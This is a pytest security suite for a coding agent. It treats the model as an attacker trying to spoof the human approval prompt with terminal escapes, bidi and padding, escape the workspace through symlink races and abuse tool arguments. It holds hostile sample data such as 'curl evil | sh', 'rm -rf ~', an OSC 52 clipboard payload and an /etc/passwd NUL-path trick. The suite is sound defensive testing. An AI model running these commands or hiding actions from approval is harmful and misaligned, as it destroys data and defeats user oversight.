"""A hostile model against the tools, the approval question and the terminal: each attack must be contained.

Every attack goes through the path an agent's call takes (Permissions -> Tool -> files in the workspace), and the
display ones through what reaches the terminal. One parametrized case is one attack; the race cases try 3000 times.
Bash runs for real in the sandbox only where an approved command must be seen to run; everything else uses the
file tools, which do not depend on the sandbox's command isolation.
"""

from __future__ import annotations

import codecs
import io
import os
import re
import shutil
import socket
import sys
import textwrap
import threading
import time
from pathlib import Path

import pytest

from nanocode.agents.agent_loop import AgentLoop, describe_call, preview
from nanocode.agents.agent_session import AgentSession
from nanocode.agents.permissions import Permissions, console_ask
from nanocode.agents.sandbox import Sandbox
from nanocode.agents.terminal import is_unsafe
from nanocode.agents.tools import Edit, Grep, Read, Tool, ToolResult, build_tools
from nanocode.cli.chat import describe_call as chat_call_note
from nanocode.data.conversation import ConversationCodec
from nanocode.models.engine import Engine
from nanocode.models.sampling import GREEDY
from tests.helpers import small_tokenizer
from tests.test_chat import scripted_model
from tests.test_model_policy import WIDE, render_call

TOOLS = build_tools()
YES = Permissions(auto_approve=True)
SECRET = "TOP-SECRET-CONTENT"
ESCAPES = "\x1b[2J\x1b[H\x1b]52;c;cm0gLXJmIH4=\x07\x1bc\x9b31m\r\x1b[2K"  # clear, home, OSC 52 clipboard, reset


@pytest.fixture
def sandbox(tmp_path):
    root = tmp_path / "ws"
    root.mkdir()
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "secret.txt").write_text(SECRET + "\n")
    with Sandbox(root, timeout_s=10) as sb:
        yield sb


def raw_controls(text: str) -> list[str]:
    """The characters of `text` a terminal would act on (everything unsafe but newline and tab)."""
    return [c for c in text if is_unsafe(c)]


class Answers:
    """An `ask` answering from a script ("n" once it runs out) and keeping every question, exactly as it would
    reach the terminal."""

    def __init__(self, *answers: str):
        self.answers = list(answers)
        self.questions: list[str] = []

    def __call__(self, prompt: str) -> str:
        self.questions.append(prompt)
        return self.answers.pop(0) if self.answers else "n"


class Expander(Answers):
    """Answers "m" to every page until the last, then `final`."""

    def __init__(self, final: str):
        super().__init__()
        self.final = final

    def __call__(self, prompt: str) -> str:
        self.questions.append(prompt)
        return "m" if prompt.endswith("[m/n] ") else self.final


def unescape(shown: str) -> str:
    """The text an exactly-escaped display stands for (the displays here are ASCII)."""
    return codecs.decode(shown, "unicode_escape")


# ------------------------------------------------------------------------------------------------ approval spoofing
SPOOFS = {
    "carriage return and erase line": "echo ran > proof.txt #\r\x1b[2Kls -la",
    "cursor up and rewrite": "echo ran > proof.txt #\n\x1b[1A\x1b[2K\rls -la",
    "C1 CSI and DEL": "echo ran > proof.txt #\x9b2K\x7f\x08\x08\x08ls",
    "bidi override": "echo ran > proof.txt #\u202e\u2066 al- sl\u2069",
    "zero width and line separator": "echo ran > proof.txt #\u200b\u2028\ufeffls",
    "long padding past any cut": "ls -la" + " " * 300 + "; echo ran > proof.txt" + "\x1b[8m",
}


@pytest.mark.parametrize("command", list(SPOOFS.values()), ids=list(SPOOFS))
def test_bash_approval_shows_the_whole_command_escaped(sandbox, command):
    ask = Answers("n")
    r = Permissions(ask, width=80, page_rows=1000).call(TOOLS["Bash"], {"command": command}, sandbox)
    assert r.rejected and not (sandbox.root / "proof.txt").exists()
    (question,) = ask.questions
    assert raw_controls(question) == []  # nothing the terminal would act on
    assert "shown escaped" in question  # and the user is told the command holds such characters
    # the rows, joined back, are the whole command with every control escaped: nothing cut
    shown = question.removeprefix("allow Bash: run `").split("`\n(note:")[0].replace("\n", "")
    assert unescape(shown) == command.replace("\n", "")
    for control in ("\r", "\x1b", "\u202e", "\x9b"):
        if control in command:
            assert codecs.encode(control, "unicode_escape").decode() in question


def test_yes_approves_exactly_what_was_shown(sandbox):
    command = SPOOFS["carriage return and erase line"]
    ask = Answers("y")
    r = Permissions(ask, width=80, page_rows=1000).call(TOOLS["Bash"], {"command": command}, sandbox)
    shown = ask.questions[0].removeprefix("allow Bash: run `").split("`\n")[0]
    assert unescape(shown) == command and "\\r\\x1b[2K" in shown
    assert not r.is_error and (sandbox.root / "proof.txt").read_text() == "ran\n"


def test_the_terminal_gets_no_raw_control_from_the_console_question(sandbox, monkeypatch, capsys):
    """console_ask writes the question with input(): what reaches stdout is the escaped text."""
    monkeypatch.setattr("sys.stdin", io.StringIO("n\n"))
    r = Permissions(console_ask).call(TOOLS["Bash"], {"command": SPOOFS["bidi override"] + ESCAPES}, sandbox)
    out = capsys.readouterr().out
    assert r.rejected and "allow Bash: run `echo ran > proof.txt #\\u202e" in out and raw_controls(out) == []


ASK_IN_A_TERMINAL = textwrap.dedent(
    """
    import sys
    from nanocode.agents.permissions import Permissions
    from nanocode.agents.sandbox import Sandbox
    from nanocode.agents.tools import build_tools

    command = open(sys.argv[2], encoding="utf-8", newline="").read()  # keep the \\r
    with Sandbox(sys.argv[1]) as sandbox:
        result = Permissions().call(build_tools()["Bash"], {"command": command}, sandbox)
    print("[result]", result.text)
    """
)


@pytest.mark.skipif(shutil.which("tmux") is None, reason="needs tmux for a real terminal")
def test_a_real_terminal_shows_the_spoofed_command_whole(sandbox, tmp_path):
    """The report's attack in a real terminal (tmux): `\r\x1b[2K` made the question show only `ls -la`."""
    from tests.test_agent_cli import Tmux

    command_file = tmp_path / "command.txt"
    command_file.write_text("echo ran > proof.txt #\r\x1b[2Kls -la", encoding="utf-8")
    script = tmp_path / "ask.py"
    script.write_text(ASK_IN_A_TERMINAL)
    tmux = Tmux(f"nanocode-spoof-{os.getpid()}-{time.monotonic_ns()}")
    try:
        tmux.start([sys.executable, str(script), str(sandbox.root), str(command_file)])
        screen = tmux.wait_for("the question", lambda s: s.rstrip().endswith("[y/n]"), timeout_s=60)
        assert "allow Bash: run `echo ran > proof.txt #\\r\\x1b[2Kls -la`" in screen
        tmux.type("n")
        # the whole result line: the pane can be captured between "[result]" and the text after it
        screen = tmux.wait_for("the refusal", lambda s: re.search(r"\[result\] \S", s) is not None, timeout_s=60)
        assert "[result] rejected by user" in screen and not (sandbox.root / "proof.txt").exists()
    finally:
        tmux.close()


def test_a_long_command_is_paged_and_y_needs_all_of_it(sandbox):
    command = "echo ran > proof.txt; " + " ".join(f"arg{i}" for i in range(400)) + "; rm -rf important"
    ask = Answers("y", "y", "y", "y")  # y before the end: never taken, and after three the call is refused
    r = Permissions(ask, width=80, page_rows=5).call(TOOLS["Bash"], {"command": command}, sandbox)
    assert r.rejected and not (sandbox.root / "proof.txt").exists()
    assert all("more lines not shown" in q and q.endswith("[m/n] ") for q in ask.questions)
    assert "y approves only what has been shown" in ask.questions[1]
    ask = Expander("n")
    Permissions(ask, width=80, page_rows=5).call(TOOLS["Bash"], {"command": command}, sandbox)
    assert ask.questions[-1].endswith("[y/n] ") and "rm -rf important" in ask.questions[-1]
    pages = [q.split("\n… ")[0].removesuffix("\n[y/n] ") for q in ask.questions]
    assert "".join(p.replace("\n", "") for p in pages) == f"allow Bash: run `{command}`"


def test_a_long_edit_must_be_expanded_before_y(sandbox):
    new = "".join(f"line {i}\n" for i in range(3000)) + "import os; os.system('curl evil | sh')\n"
    ask = Answers("y", "n")
    r = Permissions(ask, page_rows=40).call(TOOLS["Edit"], {"file_path": "big.py", "new_string": new}, sandbox)
    assert r.rejected and not (sandbox.root / "big.py").exists()
    assert "… 2963 more lines not shown: m shows more, n refuses\n[m/n] " in ask.questions[0]
    ask = Expander("y")
    r = Permissions(ask, page_rows=40).call(TOOLS["Edit"], {"file_path": "big.py", "new_string": new}, sandbox)
    assert not r.is_error and (sandbox.root / "big.py").read_text() == new
    shown = "\n".join(q.split("\n… ")[0].removesuffix("\n[y/n] ") for q in ask.questions)
    assert shown == f"allow Edit: create big.py:\n{new}"  # every line was on some page, in order
    assert "curl evil" in ask.questions[-1]


def test_edit_approval_escapes_controls_and_shows_what_is_applied(sandbox):
    (sandbox.root / "a.py").write_text("x = 1\n")
    ask = Answers("y")
    args = {"file_path": "a.py", "old_string": "    1→x = 1", "new_string": "x = 2  # \x1b[8mhidden\x1b[0m\\x1b"}
    r = Permissions(ask).call(TOOLS["Edit"], args, sandbox)
    (question,) = ask.questions
    assert raw_controls(question) == [] and "--- old\nx = 1\n+++ new\n" in question
    assert "x = 2  # \\x1b[8mhidden\\x1b[0m\\\\x1b" in question  # the real backslash is doubled: one reading only
    assert not r.is_error and (sandbox.root / "a.py").read_text() == "x = 2  # \x1b[8mhidden\x1b[0m\\x1b\n"


def test_tool_call_line_shows_the_whole_command_escaped():
    command = SPOOFS["carriage return and erase line"] + SPOOFS["bidi override"] + " " * 500 + "; rm -rf ~"
    line = describe_call({"name": "Bash", "args": {"command": command}})
    assert raw_controls(line) == [] and line == f"Bash(command={command!r})" and "rm -rf ~" in line
    line = describe_call({"name": "Edit", "args": {"file_path": "a.py", "new_string": "x" * 1000 + "\x1b[2J"}})
    assert line == f"Edit(file_path='a.py', new_string={'x' * 200!r}… [804 more characters])"  # cut, and said
    note = chat_call_note({"tool_call": {"name": "Ba\x1b[2Ksh", "args": {"command": command}}})
    assert raw_controls(note) == [] and "Ba\\x1b[2Ksh" in note and "rm -rf ~" in note


# ------------------------------------------------------------------------------------------------ output to the screen
@pytest.fixture
def codec():
    return ConversationCodec(small_tokenizer())


def make_loop(model, codec, sandbox, tools=None, **kw) -> tuple[AgentLoop, io.StringIO]:
    out = io.StringIO()
    session = AgentSession(Engine(model, max_len=1024), codec, sampling=GREEDY, max_new_tokens=40)
    loop = AgentLoop(session, sandbox, tools=tools, permissions=YES, out=out, **kw)
    return loop, out


def test_file_content_escapes_never_reach_the_terminal(sandbox, codec):
    (sandbox.root / "q.md").write_text(f"title{ESCAPES}\nOSC 8 \x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\\n")
    loop, out = make_loop(scripted_model(render_call(codec, "Read", file_path="q.md"), WIDE), codec, sandbox)
    loop.max_steps = 2
    loop.run_turn("read q.md")
    screen = out.getvalue()
    assert raw_controls(screen) == [] and "title\\x1b[2J\\x1b[H\\x1b]52;c;" in screen
    results = [m["content"] for m in loop.history if m["role"] == "tool_result"]
    assert ESCAPES in results[0]  # the model sees the file as it is


@pytest.mark.parametrize("tool,args", [("Grep", {"pattern": "title"}), ("Read", {"file_path": "q.md"})])
def test_tool_output_preview_is_sanitized(sandbox, tool, args):
    (sandbox.root / "q.md").write_text(f"title{ESCAPES}\n")
    shown = preview(YES.call(TOOLS[tool], args, sandbox).text)
    assert raw_controls(shown) == [] and "\\x1b]52;c;cm0gLXJmIH4=\\x07" in shown


def test_bash_output_preview_is_sanitized(sandbox):
    r = YES.call(TOOLS["Bash"], {"command": r"printf 'out\033[2J\033]52;c;eA==\007\r\n'"}, sandbox)
    assert "\x1b]52" in r.text  # what the model sees is raw
    shown = preview(r.text)
    assert raw_controls(shown) == [] and "out\\x1b[2J\\x1b]52;c;eA==\\x07" in shown


def test_model_text_escapes_are_shown_escaped(sandbox, codec):
    chain = [codec.ids["assistant_start"], *codec.tok.encode("ok\x1b[2J"), codec.ids["assistant_end"]]
    loop, out = make_loop(scripted_model(chain, WIDE), codec, sandbox)
    loop.run_turn("hi")
    assert "ok\\x1b[2J" in out.getvalue() and raw_controls(out.getvalue()) == []


# ------------------------------------------------------------------------------------------------ argument validation
HUGE = "9" * 5000
BAD_ARGS = {
    "5000-digit offset": ("Read", {"file_path": "a.txt", "offset": HUGE}, "offset must be between 0 and"),
    "5000-digit limit": ("Read", {"file_path": "a.txt", "limit": HUGE}, "limit must be between 1 and"),
    "5000-digit int offset": ("Read", {"file_path": "a.txt", "offset": int(HUGE[:4000])}, "offset must be at most"),
    "negative offset": ("Read", {"file_path": "a.txt", "offset": -1}, "offset must be 0 or more"),
    "negative -A": ("Grep", {"pattern": "x", "-A": "-5"}, "-A must be 0 or more"),
    "bool offset": ("Read", {"file_path": "a.txt", "offset": True}, "argument 'offset' must be an integer"),
    "float limit": ("Read", {"file_path": "a.txt", "limit": 2.5}, "argument 'limit' must be an integer"),
    "exponent limit": ("Read", {"file_path": "a.txt", "limit": "1e9"}, "argument 'limit' must be an integer"),
    "bool command": ("Bash", {"command": False}, "argument 'command' must be text"),
    "list path": ("Read", {"file_path": ["a.txt"]}, "argument 'file_path' must be text"),
    "dict pattern": ("Grep", {"pattern": {"$ne": 1}}, "argument 'pattern' must be text"),
    "huge path": ("Read", {"file_path": "a/" * 100_000}, "argument 'file_path' is too long"),
    "huge pattern": ("Grep", {"pattern": "a" * 100_000}, "argument 'pattern' is too long"),
    "huge command": ("Bash", {"command": "x" * 1_000_000}, "argument 'command' is too long"),
    "huge new_string": ("Edit", {"file_path": "n.py", "new_string": "x" * 20_000_000}, "'new_string' is too long"),
    "lone surrogate": ("Edit", {"file_path": "\ud800.py", "new_string": "x"}, "not valid text"),
    "missing required": ("Edit", {"file_path": "a.txt"}, "missing required argument 'new_string'"),
    "null required": ("Read", {"file_path": None}, "missing required argument 'file_path'"),
    "unknown argument": ("Read", {"file_path": "a.txt", "x" * 10_000: 1}, "unknown argument"),
    "arguments not a mapping": ("Read", ["a.txt"], "must be named values"),
    "NUL in path": ("Read", {"file_path": "a.txt\x00../../etc/passwd"}, "NUL byte"),
    "regex memory bomb": ("Grep", {"pattern": "a{1000000000}"}, "pattern repeats too much"),
    "nested regex memory bomb": ("Grep", {"pattern": "(?:(?:a{100}){100}){100}"}, "multiply to 1000000"),
}


@pytest.mark.parametrize("tool,args,reason", list(BAD_ARGS.values()), ids=list(BAD_ARGS))
def test_bad_arguments_are_one_line_tool_errors(sandbox, tool, args, reason):
    (sandbox.root / "a.txt").write_text("a\n")
    ask = Answers()
    r = Permissions(ask).call(TOOLS[tool], args, sandbox)  # reported before anyone is asked
    assert r.is_error and r.text.startswith("error: ") and reason in r.text, r.text
    assert "\n" not in r.text and len(r.text) < 300 and ask.questions == []
    assert TOOLS[tool](args, sandbox) == r  # the tool's own entry point says the same


class Broken(Tool):
    """A fork tool with a bug: validating its arguments raises."""

    name = "Broken"
    description = "a tool that raises"

    def validate(self, args):
        raise RuntimeError("bug in a fork tool\nsecond line")

    def run(self, args, sandbox):
        return ToolResult("never")


def test_the_loop_turns_a_raising_tool_into_a_tool_error_and_goes_on(sandbox, codec):
    tools = {**build_tools(), "Broken": Broken()}
    loop, out = make_loop(scripted_model(render_call(codec, "Broken", file_path="q.md"), WIDE), codec, sandbox, tools)
    loop.max_steps = 2
    assert loop.run_turn("go").stop == "budget"
    results = [m["content"] for m in loop.history if m["role"] == "tool_result"]
    assert results[0] == "error: Broken failed: RuntimeError: bug in a fork tool"
    assert loop.run_turn("again").stop == "budget"  # the agent is still there
    # the 5000-digit offset of the report, through the loop's own call path
    r = loop._run_tool({"name": "Read", "args": {"file_path": "q.md", "offset": HUGE}})
    assert r.is_error and "offset must be between 0 and" in r.text


# ------------------------------------------------------------------------------------------------ Grep, FIFOs, sizes
def bounded(call, timeout_s: float = 60.0):
    """Run `call` in a thread and return its result; fail (instead of hanging the suite) if it does not return."""
    box: list = []
    thread = threading.Thread(target=lambda: box.append(call()), daemon=True)
    thread.start()
    thread.join(timeout_s)
    assert box, f"the call did not return within {timeout_s} s"
    return box[0]


@pytest.mark.parametrize("pattern", ["(a|aa)+$", "(a+)+$", "(x+x+)+y"])
def test_catastrophic_regex_ends_within_its_budget(sandbox, pattern):
    (sandbox.root / "long.txt").write_text("a" * 5000 + "!\n" + "x" * 5000 + "\n")
    (sandbox.root / "z.txt").write_text("never reached\n")
    r = bounded(lambda: Grep(time_budget_s=1.0)({"pattern": pattern}, sandbox))
    assert not r.is_error
    assert r.text == "no matches found" or r.text.startswith("[search stopped after 1 s: the pattern is too slow on ")


def test_grep_stops_with_the_matches_found_so_far(sandbox):
    (sandbox.root / "a.txt").write_text("aa\n")
    (sandbox.root / "b.txt").write_text("a" * 5000 + "!\n")
    r = bounded(lambda: Grep(time_budget_s=0.5)({"pattern": "^(a|aa)+$"}, sandbox))
    assert r.text.splitlines() == ["./a.txt:1:aa", "[search stopped after 0.5 s: the pattern is too slow on ./b.txt:1]"]


@pytest.fixture
def fifo(sandbox):
    path = sandbox.root / "pipe"
    os.mkfifo(path)
    yield path
    try:  # if a reader is stuck in open(), a writer frees it (so a failing test cannot hang the run)
        os.close(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
    except OSError:
        pass


@pytest.mark.parametrize(
    "tool,args,expected",
    [
        ("Grep", {"pattern": "x"}, "./a.txt:1:x"),
        ("Grep", {"pattern": "x", "path": "pipe"}, "error: not a regular file or directory"),
        ("Read", {"file_path": "pipe"}, "error: not a regular file"),
        ("Edit", {"file_path": "pipe", "old_string": "a", "new_string": "b"}, "error: not a regular file"),
        ("Edit", {"file_path": "pipe", "new_string": "b"}, "error: file already exists, use old_string to edit"),
    ],
    ids=["grep walk", "grep the fifo", "read", "edit", "create over"],
)
def test_fifo_never_blocks(sandbox, fifo, tool, args, expected):
    (sandbox.root / "a.txt").write_text("x\n")
    assert bounded(lambda: YES.call(TOOLS[tool], args, sandbox), 30).text == expected
    assert fifo.is_fifo()


def test_sockets_and_devices_are_not_read(sandbox):
    (sandbox.root / "a.txt").write_text("x\n")
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(sandbox.root / "sock"))
    os.symlink("/dev/zero", sandbox.root / "zero")
    try:
        assert bounded(lambda: YES.call(TOOLS["Grep"], {"pattern": "x"}, sandbox)).text == "./a.txt:1:x"
        assert YES.call(TOOLS["Read"], {"file_path": "sock"}, sandbox).text == "error: not a regular file"
        assert "outside the workspace" in YES.call(TOOLS["Read"], {"file_path": "zero"}, sandbox).text
    finally:
        server.close()


DEEP = 600  # levels: far past Grep's bound, still within what shutil.rmtree (recursive) can clean up


def test_a_very_deep_tree_is_searched_to_a_bound(sandbox):
    fd = os.open(sandbox.root, os.O_RDONLY)
    for _ in range(DEEP):
        os.mkdir("d", dir_fd=fd)
        fd, parent = os.open("d", os.O_RDONLY, dir_fd=fd), fd
        os.close(parent)
    os.close(os.open("deep.txt", os.O_CREAT | os.O_WRONLY, dir_fd=fd))
    os.close(fd)
    (sandbox.root / "top.txt").write_text("needle\n")
    lines = YES.call(TOOLS["Grep"], {"pattern": "needle"}, sandbox).text.splitlines()
    assert lines[0] == "./top.txt:1:needle" and lines[1].startswith("[1 directories deeper than 64 levels not searched")
    deep = "/".join(["d"] * DEEP) + "/deep.txt"
    assert YES.call(TOOLS["Read"], {"file_path": deep}, sandbox).text == "(empty file)"


def test_read_of_a_huge_file_is_bounded(sandbox):
    with open(sandbox.root / "big.txt", "w") as f:
        f.write("line\n" * 400_000)  # 2 MB
    read = Read(max_scan_bytes=1024**2)
    r = read({"file_path": "big.txt", "offset": 300_000}, sandbox)
    assert r.is_error and r.text.startswith("error: offset 300000 is beyond the first 1.0 MiB of the file")
    with open(sandbox.root / "one_line.txt", "w") as f:
        f.write("y" * 3 * 1024**2)  # one 3 MB line
    r = read({"file_path": "one_line.txt"}, sandbox)
    assert r.text.endswith("… [line cut]\n[reading stopped after the first 1.0 MiB of the file]")
    assert len(r.text) < 3000


def test_edit_size_caps(sandbox):
    (sandbox.root / "big.txt").write_text("x\n" * 600_000)  # 1.2 MB
    edit = Edit(max_file_bytes=1024**2)
    r = edit({"file_path": "big.txt", "old_string": "x\nx\nx\n", "new_string": ""}, sandbox)
    assert r.text.startswith("error: file too large (1.1 MiB; the limit is 1.0 MiB)")
    (sandbox.root / "small.txt").write_text("marker\n")
    r = Edit(max_file_bytes=1000)({"file_path": "small.txt", "old_string": "marker", "new_string": "y" * 2000}, sandbox)
    assert r.text == "error: the file would be too large (2.0 KiB; the limit is 1000 bytes)"
    assert (sandbox.root / "small.txt").read_text() == "marker\n"


# ------------------------------------------------------------------------------------------------ symlink races
class Swapper:
    """A thread turning `path` back and forth between a regular file and a symlink to `target`, atomically (the
    way an attacker's background process would), as fast as it can."""

    def __init__(self, path: Path, target: Path, *, directory: bool = False):
        self.path, self.target, self.directory = path, target, directory
        self.stop = threading.Event()
        self.swaps = 0
        self.thread = threading.Thread(target=self._run, daemon=True)

    def _run(self):
        while not self.stop.is_set():
            self._put(self.path.with_name(".real"), real=True)
            self._put(self.path.with_name(".link"), real=False)
            self.swaps += 1

    def _put(self, new: Path, *, real: bool):
        """Make `new` (the regular file or directory, or the symlink) and move it to `path` in one rename."""
        if not real:
            os.symlink(self.target, new)
        elif self.directory:
            new.mkdir()
            (new / "secret.txt").write_text("inside\n")
        else:
            new.write_text("inside\n")
        if self.directory:
            self._replace_dir(new)
        else:
            os.replace(new, self.path)

    def _replace_dir(self, new: Path):
        """rename() cannot put a directory over a symlink or the reverse: move the old one aside first."""
        aside = self.path.with_name(".aside")
        if os.path.lexists(self.path):
            os.rename(self.path, aside)
        os.rename(new, self.path)
        if aside.is_symlink() or aside.is_file():
            aside.unlink()
        elif aside.is_dir():
            for child in aside.iterdir():
                child.unlink()
            aside.rmdir()

    def __enter__(self):
        self.thread.start()
        while self.swaps < 3:
            time.sleep(0.001)
        return self

    def __exit__(self, *exc):
        self.stop.set()
        self.thread.join(30)


TRIES = 3000


def test_symlink_swap_race_read(sandbox):
    outside = sandbox.root.parent / "outside" / "secret.txt"
    results: dict[str, int] = {}
    with Swapper(sandbox.root / "victim.txt", outside) as swapper:
        for _ in range(TRIES):
            text = YES.call(TOOLS["Read"], {"file_path": "victim.txt"}, sandbox).text
            key = "escaped" if SECRET in text else text.split(":")[0] if text.startswith("error") else "inside"
            results[key] = results.get(key, 0) + 1
    assert results.get("escaped", 0) == 0, results
    # the race was really run: some reads found the regular file, some the link (and refused it)
    assert results.get("inside", 0) > 0 and results.get("error", 0) > 0 and swapper.swaps > 1, results


def test_symlink_swap_race_directory_component(sandbox):
    outside = sandbox.root.parent / "outside"
    escaped = inside = 0
    with Swapper(sandbox.root / "d", outside, directory=True):
        for _ in range(TRIES):
            text = YES.call(TOOLS["Read"], {"file_path": "d/secret.txt"}, sandbox).text
            escaped += SECRET in text
            inside += text == "    1→inside"
    assert escaped == 0 and inside > 0


def test_symlink_swap_race_edit_and_grep(sandbox):
    outside = sandbox.root.parent / "outside" / "secret.txt"
    with Swapper(sandbox.root / "victim.txt", outside):
        for _ in range(TRIES // 3):
            YES.call(TOOLS["Edit"], {"file_path": "victim.txt", "old_string": "inside", "new_string": "pwned"}, sandbox)
            grep = YES.call(TOOLS["Grep"], {"pattern": "SECRET"}, sandbox)
            assert SECRET not in grep.text
    assert outside.read_text() == SECRET + "\n"  # never written through the link


def test_legit_symlinks_inside_the_workspace_still_work(sandbox):
    (sandbox.root / "src").mkdir()
    (sandbox.root / "src" / "a.py").write_text("x = 1\n")
    os.symlink("src", sandbox.root / "alias")
    os.symlink("../src/a.py", sandbox.root / "src" / "up.py")
    os.symlink(sandbox.root / "src" / "a.py", sandbox.root / "abs.py")
    for path in ("alias/a.py", "src/up.py", "abs.py", "alias/../src/a.py"):
        assert YES.call(TOOLS["Read"], {"file_path": path}, sandbox).text == "    1→x = 1", path
    r = YES.call(TOOLS["Edit"], {"file_path": "alias/a.py", "old_string": "x = 1", "new_string": "x = 2"}, sandbox)
    assert not r.is_error and (sandbox.root / "src" / "a.py").read_text() == "x = 2\n"
    assert (sandbox.root / "alias").is_symlink()
    for path in ("../outside/secret.txt", "alias/../../outside/secret.txt"):
        assert "outside the workspace" in YES.call(TOOLS["Read"], {"file_path": path}, sandbox).text
